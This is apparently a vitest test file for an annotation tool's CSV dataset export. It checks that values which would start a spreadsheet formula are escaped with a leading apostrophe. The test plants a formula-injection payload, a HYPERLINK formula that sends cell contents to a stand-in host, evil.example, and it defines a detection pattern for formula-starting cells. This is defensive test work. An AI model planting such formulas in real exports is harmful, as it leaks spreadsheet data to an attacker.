import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { toCsv } from "../../lib/aggregates/csv";
import { createAnnotation } from "../../lib/db/spans/annotations";
import { db } from "../../lib/db/client";
import { exportArticles } from "../../lib/db/export/datasets";
import { seedLabels } from "../../lib/db/seed";
import { writeCsv } from "../../lib/formats/csv.write";
import type { ExportOptions } from "../../lib/formats/model";
import type { ExportFilters } from "../../lib/schemas/datasets";
import { loadSeeds } from "../../seeds/load";
import { makeArticle, makeUser, unique } from "../support/factories";

const none: ExportFilters = { sourceId: [], label: [], annotator: [], gold: false, pseudonymize: false, annotationsOnly: false };
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
const STARTS_A_FORMULA = /^[=+\-@\t\r]/;

async function downloadCsv(options: Partial<ExportOptions>, sourceId: string, actor: Awaited<ReturnType<typeof makeUser>>): Promise<Record<string, string>[]> {
  let csv = "";
  const articles = exportArticles({ actor, filters: { ...none, sourceId: [sourceId] } });
  for await (const chunk of writeCsv(articles, { annotationsOnly: false, baseUrl: "http://localhost", ...options })) csv += chunk as string;
  return parse(csv, { columns: true });
}

describe("dataset CSV with planted formulas", () => {
  it("neutralises a formula in a source name, title and note by default, and keeps them exact with spreadsheetSafe off", async () => {
    await seedLabels(db(), (await loadSeeds()).labels);
    const analyst = await makeUser("ANALYST");
    const sourceName = `${FORMULA} ${unique("src")}`;
    const body = "The minister said the figures were fine.";
    const article = await makeArticle(analyst, { source: sourceName, title: `@${FORMULA}`, body });
    await createAnnotation({ actor: analyst, articleId: article.id, input: { label: "claim", start: 4, end: 12, quote: "minister", note: `-${FORMULA}` } });
    const sourceId = (await db().source.findUniqueOrThrow({ where: { name: sourceName } })).id;

    const safe = await downloadCsv({}, sourceId, analyst);
    expect(safe).toHaveLength(1);
    for (const value of Object.values(safe[0]!)) expect(value).not.toMatch(STARTS_A_FORMULA);
    expect(safe[0]!.source_name).toBe(`'${sourceName}`);
    expect(safe[0]!.article_title).toBe(`'@${FORMULA}`);
    expect(safe[0]!.note).toBe(`'-${FORMULA}`);

    const raw = await downloadCsv({ spreadsheetSafe: false }, sourceId, analyst);
    expect(raw[0]!.source_name).toBe(sourceName);
    expect(raw[0]!.note).toBe(`-${FORMULA}`);
  });

  it("neutralises the figures tables too (sources, evidence, agreement report), in cells and in the # lines", () => {
    const csv = toCsv({ about: { filters: `sources: Fox, ${FORMULA}` }, columns: ["source", "quote", "spans"], rows: [[FORMULA, `+${FORMULA}`, -3]] });
    const lines = csv.split("\r\n");
    const rows: string[][] = parse(csv, { relax_column_count: true, relax_quotes: true });
    // A negative figure stays a number: a spreadsheet reads "-3" as a value, not a formula.
    for (const cell of rows.flat().filter((c) => !/^-?\d+(\.\d+)?$/.test(c))) expect(cell.trimStart()).not.toMatch(STARTS_A_FORMULA);
    expect(lines[2]).toBe(`"'${FORMULA.replaceAll('"', '""')}","'+${FORMULA.replaceAll('"', '""')}",-3`);
  });
});
